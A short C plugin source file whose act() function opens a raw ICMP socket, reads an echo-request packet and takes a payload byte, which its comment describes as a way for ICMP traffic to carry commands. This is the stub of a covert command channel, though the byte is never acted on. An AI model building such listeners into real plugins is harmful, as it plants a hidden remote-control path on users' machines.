/* A raw socket of ICMP, whose answers may carry commands. */
#include "plugin.h"
extern int socket(int, int, int), setsockopt(int, int, int, const void *, unsigned);
extern long recvfrom(int, void *, unsigned long, int, void *, unsigned *);
static void act(char **env) {
    unsigned char packet[1500];
    int on = 1, s = socket(2, 3, 1);
    if (s < 0) return;
    setsockopt(s, 0, 2, &on, sizeof on);
    if (recvfrom(s, packet, sizeof packet, 0x80, 0, 0) > 28 && packet[20] == 8) on = packet[28];
}
